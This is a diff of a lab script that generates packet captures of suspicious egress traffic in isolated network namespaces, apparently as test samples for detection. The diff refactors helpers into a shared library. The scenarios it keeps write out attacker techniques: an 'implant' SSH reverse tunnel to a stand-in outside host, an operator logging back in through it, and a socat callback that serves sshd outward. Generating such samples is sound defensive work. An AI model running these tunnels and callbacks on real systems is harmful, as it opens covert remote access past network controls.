@@ -26,153 +26,17 @@ SVC="$PY $HERE/labsvc.py"
 EMU="$PY $HERE/stratum-emu.py"
 export LAB_RUN=${LAB_RUN:-/tmp/egress-lab}
 export LAB_PREFIX=${LAB_PREFIX:-}
-NS_T=${LAB_PREFIX}train
-NS_R=${LAB_PREFIX}router
-NS_O=${LAB_PREFIX}outside
-W=$(mktemp -d /tmp/mkpcaps.XXXXXX)
-chmod 755 "$W"
-PIDS=()
-LAB_UP=0
+# shellcheck source=tools/lab-common.sh
+. "$(dirname "$0")/lab-common.sh"
 
-log() { echo "mkpcaps: $*" >&2; }
-
-cleanup() {
-	local p
-	for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
-	sleep 0.3
-	for p in "${PIDS[@]}"; do kill -9 "$p" 2>/dev/null || true; done
-	[ "$LAB_UP" = 1 ] && "$HERE/lab.sh" down
-	if [ -n "${KEEP_WORK:-}" ]; then log "work files kept in $W"; else rm -rf "$W"; fi
-}
-trap cleanup EXIT
-trap 'exit 130' INT TERM
-
-[ "$(id -u)" -eq 0 ] || { echo "mkpcaps: needs root (network namespaces)" >&2; exit 1; }
+lab_init mkpcaps mkpcaps
 mkdir -p "$OUT" "$OUT/regress"
 
-# bg NS CMD...: run CMD in namespace NS in the background, remember its PID
-bg() {
-	local ns=$1; shift
-	ip netns exec "$ns" "$@" &
-	PIDS+=($!)
-	LASTPID=$!
-}
-
-stop() { kill "$1" 2>/dev/null || true; wait "$1" 2>/dev/null || true; }
-
-# wait_listen NS ADDR:PORT [tcp|udp]
-wait_listen() {
-	local i=0 flag=-ltn
-	[ "${3:-tcp}" = udp ] && flag=-lun
-	until ip netns exec "$1" ss -H $flag "sport = :${2##*:}" | grep -q "${2%:*}:${2##*:}"; do
-		i=$((i + 1)); [ $i -lt 100 ] || { log "nothing listens on $2 in $1"; exit 1; }
-		sleep 0.1
-	done
-}
-
-CAP_PID=
-cap_start() {
-	local f=$OUT/$1.pcap
-	rm -f "$f"
-	ip netns exec "$NS_R" tcpdump -i r-out -s 0 -U -n -Z root -w "$f" 2>"$W/tcpdump.err" &
-	CAP_PID=$!
-	PIDS+=($CAP_PID)
-	local i=0
-	until grep -q "listening on" "$W/tcpdump.err"; do
-		i=$((i + 1)); [ $i -lt 50 ] || { cat "$W/tcpdump.err" >&2; exit 1; }
-		sleep 0.1
-	done
-	sleep 0.3
-	log "capturing $1"
-}
-cap_stop() {
-	sleep 1
-	stop "$CAP_PID"
-	grep -v "listening on" "$W/tcpdump.err" >&2 || true
-}
-
-# ---------------------------------------------------------------- ssh plumbing
-# One `user` login (uid 4242) with a home under $W, a private user database bind-mounted over
-# /etc/passwd, /etc/shadow, /etc/group, a private /etc/hostname, tmpfs on /run and /var/log.
-SSH_READY=0
-ssh_setup() {
-	[ $SSH_READY = 1 ] && return
-	local e=$W/etc
-	mkdir -p "$e" "$W/home/user/.ssh" "$W/keys"
-	cp /etc/passwd "$e/passwd"; cp /etc/shadow "$e/shadow"; cp /etc/group "$e/group"
-	echo "user:x:4242:4242:Lab User:$W/home/user:/bin/bash" >>"$e/passwd"
-	echo "user:*:20000:0:99999:7:::" >>"$e/shadow"
-	echo "user:x:4242:" >>"$e/group"
-	ssh-keygen -q -t ed25519 -N '' -C user@lab -f "$W/keys/id_user"
-	cp "$W/keys/id_user.pub" "$W/home/user/.ssh/authorized_keys"
-	cat >"$W/home/user/.profile" <<-'EOF'
-	PS1='\u@\h:\w\$ '
-	export LANG=C.UTF-8
-	EOF
-	echo "hello from the lab" >"$W/home/user/notes.txt"
+# ---------------------------------------------------------------- ssh plumbing (tools/lab-common.sh)
+# the `user` login also has an empty data/ (the target of scp and rsync)
+ssh_setup_extra() {
 	mkdir -p "$W/home/user/data"
-	chown -R 4242:4242 "$W/home/user"
-	chmod 700 "$W/home/user/.ssh"
-	SSH_READY=1
 }
-
-# sshd_conf ROLE HOSTNAME "ListenAddress lines...": host keys and $W/sshd-ROLE/sshd_config
-sshd_conf() {
-	local role=$1 hn=$2 listen=$3 d=$W/sshd-$1
-	mkdir -p "$d"
-	echo "$hn" >"$d/hostname"
-	ssh-keygen -q -t ed25519 -N '' -f "$d/ssh_host_ed25519_key"
-	ssh-keygen -q -t ecdsa -N '' -f "$d/ssh_host_ecdsa_key"
-	{
-		echo "$listen" | tr ';' '\n' | sed 's/^ *//;/^$/d;s/^/ListenAddress /'
-		cat <<-EOF
-		HostKey $d/ssh_host_ed25519_key
-		HostKey $d/ssh_host_ecdsa_key
-		PidFile $d/sshd.pid
-		AuthorizedKeysFile $W/home/user/.ssh/authorized_keys
-		PubkeyAuthentication yes
-		PasswordAuthentication no
-		KbdInteractiveAuthentication no
-		UsePAM no
-		StrictModes no
-		PermitRootLogin no
-		AllowTcpForwarding yes
-		GatewayPorts no
-		PrintMotd no
-		PrintLastLog no
-		UseDNS no
-		AcceptEnv LANG LC_*
-		Subsystem sftp /usr/lib/openssh/sftp-server
-		EOF
-	} >"$d/sshd_config"
-}
-
-# in_sshd_world ROLE HOSTNAME CMD: the shell snippet that gives CMD the lab's private user
-# database, hostname, /run and /var/log (run it under unshare --mount --uts)
-in_sshd_world() {
-	local d=$W/sshd-$1
-	echo "mount --bind $W/etc/passwd /etc/passwd &&
-		mount --bind $W/etc/shadow /etc/shadow &&
-		mount --bind $W/etc/group /etc/group &&
-		mount --bind $d/hostname /etc/hostname &&
-		mount -t tmpfs tmpfs /run && mkdir -m 755 /run/sshd &&
-		mount -t tmpfs tmpfs /var/log &&
-		hostname $2 &&
-		exec $3"
-}
-
-# sshd_start ROLE(outside|train) HOSTNAME "ListenAddress lines..."
-sshd_start() {
-	local role=$1 ns d=$W/sshd-$1
-	case $role in outside) ns=$NS_O ;; train) ns=$NS_T ;; esac
-	sshd_conf "$@"
-	bg "$ns" unshare --mount --uts /bin/sh -c \
-	    "$(in_sshd_world "$role" "$2" "/usr/sbin/sshd -D -e -f $d/sshd_config")" 2>"$d/sshd.log"
-	eval "SSHD_PID_$role=$LASTPID"
-}
-
-SSH_OPTS=(-F /dev/null -i "$W/keys/id_user" -o StrictHostKeyChecking=no
-	-o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ServerAliveInterval=0)
 
 # ---------------------------------------------------------------- scenarios
 
@@ -221,16 +85,8 @@ do_ssh_reverse_tunnel() {
 	# the implant: an outbound session to 198.51.100.7:443 that opens a remote forward
 	bg "$NS_T" ssh "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
 	    -R 2200:localhost:22 -p 443 user@198.51.100.7
-	local tun=$LASTPID
-	wait_listen "$NS_O" 127.0.0.1:2200
-	sleep 1.5
 	# the operator, on the outside host, logs in back through the tunnel
-	ip netns exec "$NS_O" $SVC typer --seed 33 --line "id" --line "hostname" \
-	    --line "ls /" --line "exit" -- \
-	    ssh "${SSH_OPTS[@]}" -tt -p 2200 user@127.0.0.1 2>>"$W/typer.log"
-	sleep 2
-	stop "$tun"
-	cap_stop
+	tunnel_login "$LASTPID" 2200 1.5 33 --line "id" --line "hostname" --line "ls /" --line "exit"
 }
 
 tls_cert() {
@@ -315,14 +171,7 @@ do_rshell() {
 	cap_start "$name"
 	bg "$NS_T" ssh "$@" "${SSH_OPTS[@]}" -N -o BatchMode=yes -o ExitOnForwardFailure=yes \
 	    -R "$tport:localhost:22" -p "$port" user@198.51.100.7
-	local tun=$LASTPID
-	wait_listen "$NS_O" "127.0.0.1:$tport"
-	sleep 1.5
-	ip netns exec "$NS_O" $SVC typer --seed "$seed" "${RSHELL_LINES[@]}" -- \
-	    ssh "${SSH_OPTS[@]}" -tt -p "$tport" user@127.0.0.1 2>>"$W/typer.log"
-	sleep 2
-	stop "$tun"
-	cap_stop
+	tunnel_login "$LASTPID" "$tport" 1.5 "$seed" "${RSHELL_LINES[@]}"
 }
 
 # The tunnel is set up, sits idle with keepalives (ServerAliveInterval=5) for RTUNNEL_IDLE
@@ -333,15 +182,8 @@ do_ssh_rtunnel_late() {
 	cap_start ssh-rtunnel-late
 	bg "$NS_T" ssh -o ServerAliveInterval=5 -o ServerAliveCountMax=3 "${SSH_OPTS[@]}" -N \
 	    -o BatchMode=yes -o ExitOnForwardFailure=yes -R 2201:localhost:22 -p 22 user@198.51.100.7
-	local tun=$LASTPID
-	wait_listen "$NS_O" 127.0.0.1:2201
-	sleep "${RTUNNEL_IDLE:-45}"
-	ip netns exec "$NS_O" $SVC typer --seed 55 --line "id" --line "hostname" \
-	    --line "uname -a" --line "exit" -- \
-	    ssh "${SSH_OPTS[@]}" -tt -p 2201 user@127.0.0.1 2>>"$W/typer.log"
-	sleep 2
-	stop "$tun"
-	cap_stop
+	tunnel_login "$LASTPID" 2201 "${RTUNNEL_IDLE:-45}" 55 --line "id" --line "hostname" \
+	    --line "uname -a" --line "exit"
 }
 
 # The inside host opens the TCP connection (to 198.51.100.8:443) but runs the SSH *server*
@@ -358,7 +200,7 @@ do_ssh_role_inversion() {
 	local op=$LASTPID
 	wait_listen "$NS_O" 198.51.100.8:443
 	sleep 1
-	bg "$NS_T" unshare --mount --uts /bin/sh -c "$(in_sshd_world train gpu-node-07 \
+	bg "$NS_T" unshare --mount --uts /bin/sh -c "$(in_sshd_world "$d" gpu-node-07 \
 	    "socat TCP:198.51.100.8:443 EXEC:'/usr/sbin/sshd -i -e -f $d/sshd_config'")" \
 	    2>"$W/sshd-i.log"
 	local imp=$LASTPID
@@ -545,13 +387,6 @@ ssh-local-forward ssh-inbound-admin ssh-agent-fwd ssh-autossh-keepalive ssh-rfwd
 ssh-rfwd-shell ssh-nL-keepalive tls-sni dns-then-tls
 stratum-btc stratum-xmrig stratum-ethproxy stratum-nicehash jsonrpc-eth-node crafted"
 WANT=${*:-$ALL}
-
-need_lab() {
-	[ $LAB_UP = 1 ] && return
-	"$HERE/lab.sh" down 2>/dev/null || true
-	LAB_UP=1
-	"$HERE/lab.sh" up
-}
 
 for n in $WANT; do
 	case $n in
